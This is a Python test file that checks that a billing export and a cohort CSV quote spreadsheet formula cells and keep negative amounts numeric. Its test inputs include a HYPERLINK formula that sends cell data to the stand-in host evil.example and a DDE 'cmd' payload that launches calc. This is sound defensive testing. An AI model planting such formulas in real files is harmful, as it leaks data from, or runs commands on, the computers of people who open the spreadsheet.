"""CSV exports neutralise cells a spreadsheet would run as formulas, and keep amounts numeric:
the billing export and the cohort (standard output and --out FILE.csv) (issue 12, item 7)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from makegood.bootstrap import Container
from makegood.cli.telemetry_cmds import _csv_rows
from makegood.services.billing_export import export_credits
from makegood.store.engine import make_engine
from makegood.telemetry.cohort import compute_cohort
from tests.factories.billing import add_account, add_credit, add_plan
from tests.factories.files import ATTEMPT_COLUMNS, attempt, write_csv
from tests.harness.clock import FrozenClock
from tests.harness.settings import make_settings

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'
GRANTED = datetime(2026, 3, 10, tzinfo=UTC)


def test_billing_export_quotes_formula_cells_and_keeps_negative_amounts_numeric(
    database_url: str, tmp_path: Path, clock: FrozenClock
) -> None:
    settings = make_settings(database_url, tmp_path, billing_connector="export")
    container = Container(settings, make_engine(database_url), clock)
    with container.uow() as uow:
        add_plan(uow.conn)
        add_account(uow.conn, FORMULA)
        add_account(uow.conn, "@SUM(A1:A9)")
        add_credit(uow.conn, FORMULA, 24, GRANTED)
        add_credit(uow.conn, "@SUM(A1:A9)", 30, GRANTED)
        uow.commit()
    out = tmp_path / "credits.csv"

    assert export_credits(container, out) == 2
    container.engine.dispose()

    with out.open(newline="") as fh:
        rows = sorted(csv.DictReader(fh), key=lambda r: int(r["amount_minor"]))
    assert [r["account_id"] for r in rows] == ["'@SUM(A1:A9)", "'" + FORMULA]
    assert [r["amount"] for r in rows] == ["-0.30", "-0.24"]  # numbers stay numbers
    assert [r["amount_minor"] for r in rows] == ["-30", "-24"]


def test_cohort_csv_on_stdout_and_in_a_file_quotes_formula_account_ids(tmp_path: Path) -> None:
    events = write_csv(
        tmp_path / "attempts.csv",
        ATTEMPT_COLUMNS,
        [
            attempt("+1+cmd|' /C calc'!A0", "2026-03-22T12:30:00Z"),
            attempt("-2+3", "2026-03-22T12:40:00Z"),
            attempt("acc_plain", "2026-03-22T12:50:00Z"),
        ],
    )
    start, end = datetime(2026, 3, 22, 12, tzinfo=UTC), datetime(2026, 3, 22, 16, tzinfo=UTC)
    with compute_cohort(str(events), start, end, [], []) as cohort:
        printed = list(csv.reader(io.StringIO(_csv_rows(list(cohort.rows())))))
        written = cohort.write(tmp_path / "cohort.csv")
    expected = ["'+1+cmd|' /C calc'!A0", "'-2+3", "acc_plain"]
    assert sorted(row[0] for row in printed) == sorted(expected)
    with written.open(newline="") as fh:
        assert sorted(r["account_id"] for r in csv.DictReader(fh)) == sorted(expected)
